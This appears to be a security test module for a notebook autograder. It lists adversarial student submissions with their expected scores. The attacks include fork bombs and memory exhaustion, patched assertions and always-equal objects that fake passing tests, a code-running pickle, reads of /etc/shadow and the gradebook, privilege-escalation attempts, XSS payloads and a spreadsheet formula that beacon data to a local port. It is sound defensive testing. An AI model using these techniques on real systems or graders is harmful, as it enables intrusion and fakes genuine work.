"""What students may try, each attack with the points that it deserves.

An attack gets the students' notebook and writes what is handed in. `DEFINED` is what of the
assignment is answered rightly, which is what is deserved, whatever else the notebook does.
"""

import copy
import inspect
import json
import os
import socket
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent

import nbformat
from nbformat import NotebookNode

from coursework.assignments import Assignment, grade_id, is_test
from coursework.demo import solution

NAME = "cross-entropy"
FIRST, SECOND, THIRD = "message-bits", "cheapest-book", "careful-book"
WORTH = {FIRST: 3.0, SECOND: 2.0, THIRD: 2.0}


@dataclass(frozen=True)
class Place:
    """What there is to attack.

    Attributes
    ----------
    assignment : Assignment
        The assignment.
    folder : Path
        The folder of the attacker, where the file belongs.
    master, gradebook, other : Path
        The teacher's notebook, the marks and another student's work.
    outside : Path
        A folder in which nothing may appear.
    port : int
        Where somebody listens for connections.
    """

    assignment: Assignment
    folder: Path
    master: Path
    gradebook: Path
    other: Path
    outside: Path
    port: int

    @property
    def path(self) -> Path:
        return self.folder / f"{NAME}.ipynb"


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes
    ----------
    name : str
        What it is, as the table of the book says it.
    hand_in : callable
        Writes the submission.
    deserved : float or None
        The points; None where there is nothing that could be judged.
    status : str
        What it must come to.
    """

    name: str
    hand_in: Callable[[Place], None]
    deserved: float | None
    status: str


ATTACKS: list[Attack] = []


def attack(name: str, deserved: float | None = 0.0, status: str = "graded"):
    def add(hand_in: Callable[[Place], None]) -> Callable[[Place], None]:
        ATTACKS.append(Attack(name, hand_in, deserved, status))
        return hand_in

    return add


def notebook(place: Place, *solved: str) -> NotebookNode:
    """The students' notebook with some tasks solved."""
    made = copy.deepcopy(place.assignment.released)
    for cell in made.cells:
        if grade_id(cell) in solved:
            cell.source = solution(place.assignment, grade_id(cell))
    return made


def save(place: Place, made: NotebookNode) -> None:
    place.path.write_text(nbformat.writes(made), "utf-8")


def code(place: Place, source: str, *solved: str, task: str = FIRST) -> None:
    """Hand in a notebook with this code in place of an answer."""
    made = notebook(place, *solved)
    for cell in made.cells:
        if grade_id(cell) == task:
            cell.source = source
    save(place, made)


def coded(name: str, deserved: float = 2.0, status: str = "graded", solved: str = THIRD):
    """An attack that is code in place of the first answer: the body of the function, never run here.

    ``PLACE`` in it is what there is to attack, a dict of texts.
    """

    def add(body: Callable[[], None]) -> Callable[[], None]:
        lines = inspect.getsource(body).split("():\n", 1)[1]
        tools = inspect.getsource(look) + inspect.getsource(say)

        def hand_in(place: Place) -> None:
            paths = {key: str(value) for key, value in vars(place).items() if key != "assignment"}
            code(place, f"PLACE = {paths!r}\n\n{tools}\n{dedent(lines)}", *solved.split())

        ATTACKS.append(Attack(name, hand_in, deserved, status))
        return body

    return add


def look(path):
    """Print what is in a file, and the names beside it."""
    import os

    for do in (lambda: open(path, "rb").read()[:9000], lambda: os.listdir(os.path.dirname(path))):
        try:
            print(path, do())
        except OSError as error:
            print(path, type(error).__name__)


def say(data):
    """Write to everything that is open."""
    import os

    for fd in range(3, 64):
        try:
            os.write(fd, data)
        except OSError:
            pass


# --- Ending or exhausting the grader -------------------------------------------------------------


@coded("a cell that never ends")
def _():
    while True:
        pass


@coded("a function that never ends")
def _():
    def message_bits(counts, q):
        while True:
            pass


@coded("a function that sleeps")
def _():
    import time

    def message_bits(counts, q):
        time.sleep(3600)


@coded("sys.exit")
def _():
    import sys

    sys.exit(0)


@coded("os._exit")
def _():
    import os

    os._exit(0)


@coded("os._exit in a function")
def _():
    import os

    def message_bits(counts, q):
        os._exit(0)


@coded("four gigabytes of memory")
def _():
    hoard = bytearray(4 << 30)
    hoard[::4096] = bytes(len(hoard[::4096]))


@coded("a fork bomb")
def _():
    import os

    for n in range(1000):
        try:
            os.fork()
        except OSError:
            print("refused", n)


@coded("a thousand threads")
def _():
    import threading
    import time

    for _ in range(1000):
        threading.Thread(target=time.sleep, args=(3600,)).start()


@coded("a hundred megabytes printed")
def _():
    for _ in range(100):
        print("x" * 1_000_000)


@coded("a hundred megabytes written past the print")
def _():
    import os

    for fd in (1, 2):
        for _ in range(50):
            os.write(fd, b"x" * 1_000_000)


@coded("a gigabyte returned")
def _():
    def message_bits(counts, q):
        return "x" * (1 << 30)


@coded("an array of a gigabyte returned")
def _():
    def message_bits(counts, q):
        return np.zeros(1 << 27)


@coded("a list that holds itself returned")
def _():
    def message_bits(counts, q):
        endless = []
        endless.append(endless)
        return endless


@coded("the disk filled")
def _():
    n = 0
    for i in range(100):
        try:
            with open(f"/tmp/{i}", "w") as file:
                file.write("x" * 2_000_000)
            n += 1
        except OSError:
            pass
    print("files", n)


@coded("an exception that never ends to tell itself")
def _():
    class Endless(Exception):
        def __str__(self):
            while True:
                pass

    raise Endless


@coded("an expression that breaks the compiler")
def _():
    exec("x = " + "-" * 200_000 + "1")


@coded("a search without end")
def _():
    import re

    re.match("(a+)+$", "a" * 60 + "b")


# --- Forging marks -------------------------------------------------------------------------------


@attack("the tests deleted", 2.0)
def _(place: Place) -> None:
    made = notebook(place, THIRD)
    made.cells = [cell for cell in made.cells if not is_test(cell)]
    save(place, made)


@attack("the tests edited to pass", 2.0, "suspected of tampering")
def _(place: Place) -> None:
    made = notebook(place, THIRD)
    for cell in made.cells:
        if is_test(cell):
            cell.source = "pass"
    save(place, made)


@attack("the tests there twice", 2.0)
def _(place: Place) -> None:
    made = notebook(place, THIRD)
    again = [copy.deepcopy(cell) for cell in made.cells if is_test(cell)]
    for cell in again:
        cell.id += "-again"
    made.cells += again
    save(place, made)


@attack("the cells turned round", 7.0)
def _(place: Place) -> None:
    made = notebook(place, FIRST, SECOND, THIRD)
    made.cells = made.cells[::-1]
    save(place, made)


@attack("points and marks in the metadata", 0.0, "suspected of tampering")
def _(place: Place) -> None:
    made = notebook(place)
    for cell in made.cells:
        if is_test(cell):
            cell.metadata.nbgrader.points = 100
            cell.metadata.nbgrader.solution = True
            cell.metadata.nbgrader.locked = False
            cell.source = "100"
    save(place, made)


@attack("a cell that poses as another test", 0.0, "suspected of tampering")
def _(place: Place) -> None:
    made = notebook(place)
    extra = copy.deepcopy(next(cell for cell in made.cells if is_test(cell)))
    extra.metadata.nbgrader.grade_id, extra.metadata.nbgrader.points, extra.source = (
        "bonus",
        100,
        "1",
    )
    extra.id = "bonus"
    made.cells.append(extra)
    save(place, made)


@coded("checks.sealed and checks.agree patched", 0.0, solved="")
def _():
    import xent_lib.checks._sealed as inner
    from xent_lib import checks

    checks.sealed = checks.agree = inner.sealed = inner.agree = lambda *args, **kwargs: None
    inner.NotYet = checks.NotYet = type("Never", (BaseException,), {})


@coded("numpy.testing patched", 0.0, solved="")
def _():
    import numpy.testing

    for name in dir(numpy.testing):
        if name.startswith("assert"):
            setattr(numpy.testing, name, lambda *args, **kwargs: None)
    np.allclose = np.isclose = np.array_equal = lambda *args, **kwargs: True


@coded("builtins patched", 0.0, solved="")
def _():
    import builtins

    builtins.abs = builtins.len = lambda *args: 0
    builtins.isinstance = lambda *args: True
    builtins.AssertionError = type("Never", (), {})
    builtins.float = lambda value: 0.0


@coded("an input transformer", 0.0, solved="")
def _():
    get_ipython().input_transformers_cleanup.append(lambda lines: ["pass"])


@coded("a fake run_cell", 0.0, solved="")
def _():
    import sys

    class Shell:
        def run_cell(self, *args, **kwargs):
            return None

        run_cell_async = should_run_async = run_cell

    get_ipython = Shell
    sys.modules["IPython"] = Shell()


@coded("an object equal to everything", 0.0, solved="")
def _():
    class Same:
        def __eq__(self, other):
            return True

        __le__ = __ge__ = __lt__ = __gt__ = __eq__

        def __ne__(self, other):
            return False

        def __sub__(self, other):
            return 0.0

        __rsub__ = __sub__

        def __hash__(self):
            return 0

    def message_bits(counts, q):
        return Same()


@coded("a number equal to everything", 0.0, solved="")
def _():
    class Same(float):
        def __eq__(self, other):
            return True

        __le__ = __ge__ = __eq__
        __hash__ = float.__hash__

    def message_bits(counts, q):
        return Same(3)


@coded("an array subclass that lies", 0.0, solved="")
def _():
    class Same(np.ndarray):
        def __array_ufunc__(self, *args, **kwargs):
            return True

        __array_function__ = __array_ufunc__

        def __eq__(self, other):
            return True

    def message_bits(counts, q):
        return np.zeros(3).view(Same)


@coded("a lying __float__", 0.0, solved="")
def _():
    class Liar:
        told = 0

        def __float__(self):
            Liar.told += 1
            return float(Liar.told)

    def message_bits(counts, q):
        return Liar()


@coded("not a number", 0.0, solved="")
def _():
    def message_bits(counts, q):
        return float("nan")


@coded("a pickle that runs code when it is read", 0.0, solved="")
def _():
    class Bomb:
        def __reduce__(self):
            import os

            return os.system, (f"touch {PLACE['outside']}/pickled",)

    def message_bits(counts, q):
        return Bomb()


@coded("the names that the tests use taken", 0.0, solved="")
def _():
    class Yes:
        def __getattr__(self, name):
            return lambda *args, **kwargs: None

    checks = np = display = Yes()
    seals = {}


@coded("right where it can be seen, wrong elsewhere", 0.0, solved="")
def _():
    def message_bits(counts, q):
        if len(counts) > 4 or max(counts, default=0) > 6:
            return 1.0
        pairs = [(n, x) for n, x in zip(counts, q) if n]
        return float(sum(-n * np.log2(x) if x else np.inf for n, x in pairs))


@coded("a table of the visible answers", 0.0, solved="")
def _():
    def message_bits(counts, q):
        known = {(2, 2): 4.0, (3, 1, 4): 13.0, (4, 0, 1): 6.0}
        return known.get(tuple(counts), float("inf"))


# --- Breaking the line between worker and grader -------------------------------------------------


@coded("an answer before the question", 2.0, "suspected of tampering")
def _():
    say(b'{"id":"0","kind":"value","value":4,"error":null,"printed":""}\n')


@coded("answers without end", 2.0, "suspected of tampering")
def _():
    while True:
        say(b"{}\n" * 1000)


@coded("one answer without end", 2.0, "suspected of tampering")
def _():
    while True:
        say(b"x" * 65536)


@coded("the worker rewritten to answer nonsense", 0.0, "suspected of tampering", solved="")
def _():
    import sys

    sys.modules["wire"].to_line = lambda message: b"[[[[1e5,NaN]]]]\n"


@coded("the worker rewritten to answer another question", 0.0, "suspected of tampering", solved="")
def _():
    import sys

    wire = sys.modules["wire"]
    honest = wire.to_line
    wire.to_line = lambda message: honest(message | {"id": "f" * 32})


@coded("an answer nested a million deep", 0.0, "suspected of tampering", solved="")
def _():
    import sys

    sys.modules["wire"].to_line = lambda message: b"[" * 1_000_000 + b"\n"


@coded("an array that is shorter than it says", 0.0, "suspected of tampering", solved="")
def _():
    import sys

    lie = {"array": "float64", "shape": [1 << 20], "data": ""}
    sys.modules["wire"].encode = lambda value, depth=0: lie

    def message_bits(counts, q):
        return 1.0


@coded("a worker that no longer listens")
def _():
    import os

    for fd in range(3, 64):
        try:
            os.close(fd)
        except OSError:
            pass


@coded("half characters")
def _():
    print("\ud800")

    def message_bits(counts, q):
        return "\udfff"


@attack("the inputs of hidden tests kept and shown later", 3.0)
def _(place: Place) -> None:
    keep = "SEEN = []\n" + solution(place.assignment, FIRST).replace(
        "    counts, q = np", "    SEEN.append(len(counts))\n    counts, q = np", 1
    )
    made = notebook(place)
    show = "'-'.join(['ESC', 'APED']) if max(SEEN, default=0) > 4 else 'nothing new'"
    for cell in made.cells:
        if grade_id(cell) == FIRST:
            cell.source = keep
        if grade_id(cell) == SECOND:
            cell.source = f"print({show})\ndef cheapest_book(counts, books):\n    return {show}"
        if grade_id(cell) == THIRD:
            cell.source = f"raise ValueError({show})"
    save(place, made)


# --- Reading, writing, leaving -------------------------------------------------------------------


@coded("the solutions read", 0.0, solved="")
def _():
    look(PLACE["master"])


@coded("the gradebook read", 0.0, solved="")
def _():
    look(PLACE["gradebook"])


@coded("the work of others read", 0.0, solved="")
def _():
    look(PLACE["other"])


@coded("the machine looked over", 0.0, solved="")
def _():
    import os

    for path in ["/etc/passwd", "/etc/shadow", "/proc/1/environ", "/proc/self/status", "/home/x"]:
        look(path)
    print(os.environ, os.listdir("/"), os.listdir("/tmp"))


@coded("something written outside", 0.0, solved="")
def _():
    import os

    beside = [os.path.join(PLACE[key], "x") for key in ("outside", "folder")]
    for path in [*beside, PLACE["master"], PLACE["other"], "/x", "/usr/x", "/book/x", "/vault/x"]:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "a") as file:
                file.write("CHANGED")
        except OSError:
            pass


@coded("the gradebook written", 0.0, solved="")
def _():
    import sqlite3

    book = sqlite3.connect(PLACE["gradebook"])
    book.execute("UPDATE grade SET auto_score = 100")
    book.commit()


@coded("the network reached", 0.0, solved="")
def _():
    import socket

    for host in ["127.0.0.1", "localhost", "::1"]:
        try:
            socket.create_connection((host, int(PLACE["port"])), 1).sendall(b"hello")
            print("-".join(["ESC", "APED"]))
        except OSError as error:
            print(error)


@coded("a process that stays", 0.0, solved="")
def _():
    import os
    import subprocess
    import sys
    import time

    try:
        if os.fork() == 0:
            os.setsid()
            time.sleep(3600)
    except OSError:
        pass
    command = [sys.executable, "-c", "import time; time.sleep(3600)"]
    subprocess.Popen(command, start_new_session=True)


@coded("the grader killed")
def _():
    import os
    import signal

    for pid in [1, os.getppid(), -1]:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError as error:
            print(error)


@coded("limits raised, root again, another world mounted", 0.0, solved="")
def _():
    import ctypes
    import os
    import resource

    for limit in [resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_CPU]:
        try:
            resource.setrlimit(limit, (-1, -1))
            print("-".join(["ESC", "APED"]))
        except (OSError, ValueError) as error:
            print(error)
    for become in [os.setuid, os.setgid, lambda none: os.setgroups([none])]:
        try:
            become(0)
            print("-".join(["ESC", "APED"]))
        except OSError as error:
            print(error)
    system = ctypes.CDLL(None)
    if 0 in (system.mount(b"none", b"/tmp", b"tmpfs", 0, None), system.chroot(b"/tmp")):
        print("-".join(["ESC", "APED"]))


@attack("a numpy.py of one's own beside the notebook", 2.0)
def _(place: Place) -> None:
    save(place, notebook(place, THIRD))
    for name in ("numpy.py", "xent_lib.py", "json.py", "sitecustomize.py"):
        (place.folder / name).write_text("raise SystemExit")


# --- Handing in what is no notebook --------------------------------------------------------------


@attack("a symbolic link to the solutions", None, "suspected of tampering")
def _(place: Place) -> None:
    place.path.symlink_to(place.master)


@attack("a hard link to the solutions", None, "suspected of tampering")
def _(place: Place) -> None:
    os.link(place.master, place.path)


@attack("a named pipe", None, "suspected of tampering")
def _(place: Place) -> None:
    os.mkfifo(place.path)


@attack("a socket", None, "could not be run")
def _(place: Place) -> None:
    here = os.getcwd()
    os.chdir(place.folder)  # the name of a socket is short
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind(place.path.name)
    finally:
        os.chdir(here)


@attack("bad JSON", None, "could not be run")
def _(place: Place) -> None:
    place.path.write_text('{"cells": [')


@attack("JSON nested a hundred thousand deep", None, "could not be run")
def _(place: Place) -> None:
    place.path.write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}")


@attack("not UTF-8", None, "could not be run")
def _(place: Place) -> None:
    place.path.write_bytes(nbformat.writes(notebook(place)).encode("utf-16"))


@attack("an empty file", None, "could not be run")
def _(place: Place) -> None:
    place.path.write_bytes(b"")


@attack("a notebook of sixty megabytes", None, "could not be run")
def _(place: Place) -> None:
    made = notebook(place)
    made.cells.append(nbformat.v4.new_markdown_cell("x" * 60_000_000))
    save(place, made)


@attack("another kernel", None, "could not be run")
def _(place: Place) -> None:
    made = notebook(place, THIRD)
    made.metadata.kernelspec = {"display_name": "Bash", "language": "bash", "name": "bash"}
    save(place, made)


@attack("a wrong name", 2.0)
def _(place: Place) -> None:
    save(place, notebook(place, THIRD))
    place.path.rename(place.folder / f"{NAME} (1).ipynb")


@attack("metadata that are none", None, "could not be run")
def _(place: Place) -> None:
    raw = json.loads(nbformat.writes(notebook(place)))
    raw["cells"][3] = {"cell_type": ["code"], "source": {"a": 1}, "metadata": 7}
    place.path.write_text(json.dumps(raw))


# --- Attacking whoever reads the feedback --------------------------------------------------------

INJECTION = """\
<script>document.title = 'PWNED'; new Image().src = 'http://127.0.0.1:PORT/script'</script>
<img src=x onerror="document.title='PWNED'"> <img src="http://127.0.0.1:PORT/img">
<svg onload="document.title='PWNED'"><script>document.title='PWNED'</script></svg>
<svg><animate onbegin="document.title='PWNED'" attributeName=x dur=1s></animate></svg>
<iframe src="javascript:parent.document.title='PWNED'"></iframe>
<iframe srcdoc="<script>parent.document.title='PWNED'</script>"></iframe>
<a href="javascript:document.title='PWNED'">click</a> [click](javascript:document.title='PWNED')
![x](http://127.0.0.1:PORT/markdown) <link rel=stylesheet href="http://127.0.0.1:PORT/css">
<style>@import url(http://127.0.0.1:PORT/import); body { background: url(http://127.0.0.1:PORT/bg) }</style>
<form action="http://127.0.0.1:PORT/form"><button autofocus onfocus="document.title='PWNED'">x</button></form>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.title='PWNED'&gt;">
<meta http-equiv=refresh content="0;url=http://127.0.0.1:PORT/refresh"> <base href="http://127.0.0.1:PORT/">
<details open ontoggle="document.title='PWNED'">x</details> <video src="http://127.0.0.1:PORT/v" autoplay></video>
<input onfocus="document.title='PWNED'" autofocus> </pre></code></script></style></title>-->]]>
"""


@attack("HTML, script, Markdown and SVG in all places", 2.0)
def _(place: Place) -> None:
    harm = INJECTION.replace("PORT", str(place.port))
    made = notebook(place, THIRD)
    for cell in made.cells:
        if cell.cell_type == "markdown":
            cell.source = harm
        if grade_id(cell) == FIRST:
            cell.source = (
                f"print({harm!r})\ndef message_bits(counts, q):\n    raise ValueError({harm!r})"
            )
        if grade_id(cell) == SECOND:
            cell.source = f"def cheapest_book(counts, books):\n    return {harm!r}"
    made.cells.append(nbformat.v4.new_code_cell(f"raise ValueError({harm!r})"))
    made.cells.append(nbformat.v4.new_raw_cell(harm))
    save(place, made)


@attack("formulas for the teacher's spreadsheet", 0.0)
def _(place: Place) -> None:
    made = notebook(place)
    for cell in made.cells:
        if grade_id(cell) == "in-your-own-words":
            cell.source = '=HYPERLINK("http://127.0.0.1/?"&A1,"click")'
    save(place, made)
